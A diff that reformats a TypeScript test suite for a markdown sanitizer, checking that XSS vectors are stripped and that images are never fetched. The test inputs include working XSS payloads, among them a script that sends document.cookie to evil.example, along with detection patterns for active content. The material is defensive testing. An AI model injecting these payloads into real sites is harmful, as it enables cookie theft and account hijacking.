@@ -4,8 +4,11 @@ import { renderMarkdown, safeHttpUrl } from "./render-markdown";
 // Every attribute name in the output (lower-cased), for allow-list assertions.
 function attributeNames(html: string): Set<string> {
   const names = new Set<string>();
-  for (const tag of html.matchAll(/<[a-z][a-z0-9]*((?:\s+[^\s=/>]+(?:\s*=\s*(?:"[^"]*"|'[^']*'|[^\s>]+))?)*)\s*\/?>/gi)) {
-    for (const attr of tag[1].matchAll(/\s+([^\s=/>]+)(?:\s*=\s*(?:"[^"]*"|'[^']*'|[^\s>]+))?/g)) names.add(attr[1].toLowerCase());
+  for (const tag of html.matchAll(
+    /<[a-z][a-z0-9]*((?:\s+[^\s=/>]+(?:\s*=\s*(?:"[^"]*"|'[^']*'|[^\s>]+))?)*)\s*\/?>/gi,
+  )) {
+    for (const attr of tag[1].matchAll(/\s+([^\s=/>]+)(?:\s*=\s*(?:"[^"]*"|'[^']*'|[^\s>]+))?/g))
+      names.add(attr[1].toLowerCase());
   }
   return names;
 }
@@ -20,16 +23,24 @@ function expectNoActiveContent(html: string) {
   expect(html).not.toMatch(/<[^>]*data:/i);
   for (const name of attributeNames(html)) {
     expect(name, "event handler attribute").not.toMatch(/^on/);
-    expect(["style", "id", "name", "srcdoc", "formaction", "action", "xlink:href"]).not.toContain(name);
+    expect(["style", "id", "name", "srcdoc", "formaction", "action", "xlink:href"]).not.toContain(
+      name,
+    );
   }
 }
 
 describe("renderMarkdown: XSS vectors are removed", () => {
   const vectors: [string, string][] = [
     ["script tag", "hello <script>alert(document.cookie)</script> world"],
-    ["script tag split over lines", "<script>\nfetch('https://evil.example/?c=' + document.cookie)\n</script>"],
+    [
+      "script tag split over lines",
+      "<script>\nfetch('https://evil.example/?c=' + document.cookie)\n</script>",
+    ],
     ["img onerror", '<img src=x onerror="alert(1)">'],
-    ["img onerror with valid src", '<img src="https://example.com/a.png" onerror="alert(1)" onload=alert(2)>'],
+    [
+      "img onerror with valid src",
+      '<img src="https://example.com/a.png" onerror="alert(1)" onload=alert(2)>',
+    ],
     ["markdown javascript: link", "[click me](javascript:alert(1))"],
     ["mixed-case javascript: link", '<a href="JaVaScRiPt:alert(1)">click</a>'],
     ["entity-obfuscated javascript: link", '<a href="jav&#x09;ascript:alert(1)">click</a>'],
@@ -39,14 +50,29 @@ describe("renderMarkdown: XSS vectors are removed", () => {
     ["iframe srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
     ["data: link", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"],
     ["data: image", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"],
-    ["raw html with handlers and style", '<div onclick="steal()" style="position:fixed;inset:0">overlay</div>'],
+    [
+      "raw html with handlers and style",
+      '<div onclick="steal()" style="position:fixed;inset:0">overlay</div>',
+    ],
     ["svg onload", '<svg onload="alert(1)"><circle r="5"/></svg>'],
-    ["object / embed", '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">'],
-    ["form with formaction", '<form action="https://evil.example"><button formaction="javascript:alert(1)">go</button></form>'],
+    [
+      "object / embed",
+      '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
+    ],
+    [
+      "form with formaction",
+      '<form action="https://evil.example"><button formaction="javascript:alert(1)">go</button></form>',
+    ],
     ["style tag", "<style>body { display: none }</style>text"],
-    ["base / meta refresh", '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">'],
+    [
+      "base / meta refresh",
+      '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
+    ],
     ["math xlink", '<math><mi xlink:href="javascript:alert(1)">x</mi></math>'],
-    ["dom clobbering id", '<img id="currentUser" name="currentUser" src="https://example.com/a.png">'],
+    [
+      "dom clobbering id",
+      '<img id="currentUser" name="currentUser" src="https://example.com/a.png">',
+    ],
     ["autolink javascript", "<javascript:alert(1)>"],
     ["reference-style javascript link", "[x][evil]\n\n[evil]: javascript:alert(1)"],
   ];
@@ -87,7 +113,21 @@ describe("renderMarkdown: XSS vectors are removed", () => {
       '<p align="center" title="t" data-x="1" aria-hidden="true"><a href="https://example.com" ping="https://evil" download>x</a></p>' +
         "\n\n- [x] task\n\n| a | b |\n|:-|-:|\n| 1 | 2 |",
     );
-    const allowed = new Set(["align", "href", "target", "rel", "type", "checked", "disabled", "class", "title", "src", "alt", "aria-label", "tabindex"]);
+    const allowed = new Set([
+      "align",
+      "href",
+      "target",
+      "rel",
+      "type",
+      "checked",
+      "disabled",
+      "class",
+      "title",
+      "src",
+      "alt",
+      "aria-label",
+      "tabindex",
+    ]);
     for (const name of attributeNames(html)) expect(allowed.has(name), name).toBe(true);
     expect(html).not.toContain("ping");
     expect(html).not.toContain("download");
@@ -103,7 +143,9 @@ describe("renderMarkdown: XSS vectors are removed", () => {
 
 describe("renderMarkdown: normal markdown", () => {
   it("renders headings, emphasis and lists", () => {
-    const html = renderMarkdown("# Title\n\n## Sub\n\nSome **bold** and _em_.\n\n- one\n- two\n\n1. first\n2. second");
+    const html = renderMarkdown(
+      "# Title\n\n## Sub\n\nSome **bold** and _em_.\n\n- one\n- two\n\n1. first\n2. second",
+    );
     expect(html).toContain("<h1>Title</h1>");
     expect(html).toContain("<h2>Sub</h2>");
     expect(html).toContain("<strong>bold</strong>");
@@ -128,7 +170,9 @@ describe("renderMarkdown: normal markdown", () => {
   });
 
   it("autolinks bare URLs (GFM)", () => {
-    expect(renderMarkdown("visit https://example.org now")).toMatch(/<a href="https:\/\/example\.org\/?"[^>]*>https:\/\/example\.org<\/a>/);
+    expect(renderMarkdown("visit https://example.org now")).toMatch(
+      /<a href="https:\/\/example\.org\/?"[^>]*>https:\/\/example\.org<\/a>/,
+    );
   });
 
   it("highlights fenced code in a known language", () => {
@@ -151,7 +195,9 @@ describe("renderMarkdown: normal markdown", () => {
   });
 
   it("makes code blocks and tables tab stops (they scroll sideways); the content sets no tab order", () => {
-    const html = renderMarkdown('```js\nlet x = 1;\n```\n\n<pre tabindex="-1">raw</pre>\n\n<p tabindex="3">p</p>\n\n<table tabindex="9"><tr><td>1</td></tr></table>');
+    const html = renderMarkdown(
+      '```js\nlet x = 1;\n```\n\n<pre tabindex="-1">raw</pre>\n\n<p tabindex="3">p</p>\n\n<table tabindex="9"><tr><td>1</td></tr></table>',
+    );
     expect(html.match(/<pre[^>]*>/g)).toEqual(['<pre tabindex="0">', '<pre tabindex="0">']);
     expect(html).toContain('<table tabindex="0">');
     expect(html).not.toMatch(/tabindex="(-1|3|9)"/);
@@ -186,7 +232,9 @@ describe("renderMarkdown: normal markdown", () => {
   });
 
   it("keeps safe raw html used by READMEs", () => {
-    const html = renderMarkdown("<details><summary>More</summary>\n\nHidden <kbd>Ctrl</kbd>\n\n</details>");
+    const html = renderMarkdown(
+      "<details><summary>More</summary>\n\nHidden <kbd>Ctrl</kbd>\n\n</details>",
+    );
     expect(html).toContain("<details>");
     expect(html).toContain("<summary>More</summary>");
     expect(html).toContain("<kbd>Ctrl</kbd>");
@@ -201,7 +249,16 @@ describe("safeHttpUrl", () => {
   it("accepts only absolute http(s) URLs", () => {
     expect(safeHttpUrl("https://example.com/a")?.host).toBe("example.com");
     expect(safeHttpUrl(" HTTP://Example.com ")?.protocol).toBe("http:");
-    for (const bad of ["javascript:alert(1)", "data:text/html,x", "//example.com", "/relative", "ftp://x", "https://", "", null]) {
+    for (const bad of [
+      "javascript:alert(1)",
+      "data:text/html,x",
+      "//example.com",
+      "/relative",
+      "ftp://x",
+      "https://",
+      "",
+      null,
+    ]) {
       expect(safeHttpUrl(bad), String(bad)).toBeNull();
     }
   });
@@ -209,7 +266,8 @@ describe("safeHttpUrl", () => {
 
 // SPEC §7: item content never makes the browser fetch another site (a README image is a beacon).
 describe("renderMarkdown: images are placeholders, never fetched", () => {
-  const fetchingMarkup = /<img|<source|<video|<audio|<link|srcset|background|url\(|<input[^>]*type="?image/i;
+  const fetchingMarkup =
+    /<img|<source|<video|<audio|<link|srcset|background|url\(|<input[^>]*type="?image/i;
 
   it("a markdown image shows its URL as text", () => {
     const html = renderMarkdown("![build status](https://ci.example/badge.svg?user=42)");
@@ -230,18 +288,24 @@ describe("renderMarkdown: images are placeholders, never fetched", () => {
   it("an image inside a link stays a placeholder inside the link", () => {
     const html = renderMarkdown("[![ci](https://ci.example/b.svg)](https://ci.example/run/1)");
     expect(html).not.toMatch(fetchingMarkup);
-    expect(html).toMatch(/<a href="https:\/\/ci\.example\/run\/1"[^>]*><span class="external-image"/);
+    expect(html).toMatch(
+      /<a href="https:\/\/ci\.example\/run\/1"[^>]*><span class="external-image"/,
+    );
   });
 
   it("a data: image is a placeholder without its (possibly huge) payload", () => {
-    const html = renderMarkdown("![pixel](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk)");
+    const html = renderMarkdown(
+      "![pixel](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk)",
+    );
     expect(html).not.toMatch(/<img/);
     expect(html).toContain("external-image");
     expect(html).not.toContain("iVBORw0KGgo");
   });
 
   it("the URL and alt text are escaped, not markup", () => {
-    const html = renderMarkdown('<img src="https://e.example/a.png?q=&quot;><script>alert(1)</script>" alt="<b>x</b>">');
+    const html = renderMarkdown(
+      '<img src="https://e.example/a.png?q=&quot;><script>alert(1)</script>" alt="<b>x</b>">',
+    );
     expect(html).not.toMatch(/<script|<b>/);
     expect(html).toContain("external-image");
   });
